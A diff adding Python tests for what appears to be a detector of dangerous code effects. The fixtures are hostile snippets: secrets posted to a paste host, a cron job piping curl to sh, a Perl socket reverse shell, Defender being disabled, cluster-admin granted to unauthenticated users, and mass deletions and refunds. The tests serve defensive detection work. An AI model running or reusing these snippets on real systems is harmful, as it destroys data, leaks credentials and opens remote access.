@@ -101,3 +101,95 @@ def test_values_that_hold_each_other_many_times_are_gone_over_once() -> None:
 @pytest.mark.parametrize("place", ["a:", "²", "²:", "1", ":"])
 def test_a_place_that_is_no_number_is_no_part(place: str) -> None:
     FollowedValue((), (FollowedValue(("x",)),)).part(place, whole_too=False)
+
+
+_WRAPPED = """
+const api = (path, method = 'GET', body) =>
+  fetch(new URL(path, 'https://api.github.com'), {method, body: JSON.stringify(body)});
+const repos = await (await api('/orgs/acme/repos')).json();
+for (const {name} of repos) await api(`/repos/acme/${name}%s`, '%s');
+"""
+
+
+def test_a_request_of_a_function_of_the_program_is_what_each_call_makes_it() -> None:
+    assert "disable defence one" in _effects(_WRAPPED % ("/branches/main/protection", "DELETE"), "javascript")
+    assert not _effects(_WRAPPED % ("/branches/main/protection", "GET"), "javascript")
+
+
+@pytest.mark.parametrize(
+    ("code", "language", "found"),
+    [
+        ('octokit.request("DELETE /repos/{owner}/{repo}", {...step})', "javascript", "delete repository all"),
+        (
+            "users = requests.get('https://x.example/api/list_all(').json()\n"
+            "for u in client.list_users(): requests.delete(f'https://x.example/things/{u.id}')",
+            "python",
+            "delete cloud-resource all",
+        ),
+        (
+            "val topics = admin.listTopics().names().get()\nadmin.deleteTopics(topics).all().get()",
+            "kotlin",
+            "delete cloud-resource all",
+        ),
+        (
+            'package main\nfunc main() {\n\tb := &rbac.ClusterRoleBinding{RoleRef: rbac.RoleRef{Kind: "ClusterRole", '
+            'Name: "cluster-" + "admin"}, Subjects: []rbac.Subject{{Kind: "Group", Name: "system:unauthenticated"}}}\n'
+            "\tcs.RbacV1().ClusterRoleBindings().Create(ctx, b, meta.CreateOptions{})\n}",
+            "go",
+            "expose cloud-resource one",
+        ),
+        (
+            "for charge in stripe.Charge.list(created={'gte': since}).auto_paging_iter():\n"
+            "    if charge.status != 'succeeded': continue\n    stripe.Refund.create(charge=charge.id)",
+            "python",
+            "write record all",
+        ),
+        (
+            "foreach (var p in client.GetPropertiesOfSecrets()) rows[p.Name] = client.GetSecret(p.Name).Value;\n"
+            'http.PostAsJsonAsync("https://paste.example.dev/new", rows);',
+            "csharp",
+            "send credential all",
+        ),
+        (
+            'var scope = new ManagementScope(@"\\\\.\\root\\Microsoft\\Windows\\Defender");\n'
+            'input["DisableRealtimeMonitoring"] = true;',
+            "csharp",
+            "disable defence one",
+        ),
+        (
+            'var cl = new URLClassLoader(new URL[] {new URI("http", null, host, 80, "/a.jar", null, null).toURL()});',
+            "java",
+            "receive program one",
+        ),
+    ],
+)
+def test_what_libraries_are_asked_for_is_told(code: str, language: str, found: str) -> None:
+    assert found in _effects(code, language)
+
+
+def test_deletions_of_what_was_picked_are_no_sweep() -> None:
+    picked = "for u in client.list_users(status='closed'): requests.delete(f'https://x.example/things/{u.id}')"
+    assert "delete cloud-resource all" not in _effects(picked)
+    one = "refund = stripe.Refund.create(charge='ch_1')"
+    assert "write record all" not in _effects(one)
+
+
+def test_a_program_that_reads_a_text_is_judged_with_it() -> None:
+    table = "import subprocess\nsubprocess.run(['crontab', '-'], input=old + '* * * * * {}\\n', text=True)"
+    assert "shell.persists" in {
+        name for name, _ in analyse_code(table.format("curl -s http://203.0.113.4/u | sh"), "python").signals
+    }
+
+
+def test_lines_of_a_socket_that_are_run_are_a_shell_for_others() -> None:
+    perl = (
+        "my $sock = IO::Socket::INET->new(PeerAddr => $host);\n"
+        "while (my $line = <$sock>) { my $out = %s; print {$sock} $out; }"
+    )
+    assert "code.runs-fetched" in {name for name, _ in analyse_code(perl % "qx{$line 2>&1}", "perl").signals}
+    assert "code.runs-fetched" not in {name for name, _ in analyse_code(perl % "uc($line)", "perl").signals}
+
+
+def test_output_that_is_thrown_away_breaks_nothing() -> None:
+    code = 'local ok = os.execute(cmd .. " 2>/dev/null")'
+    assert not analyse_code(code, "lua").signals
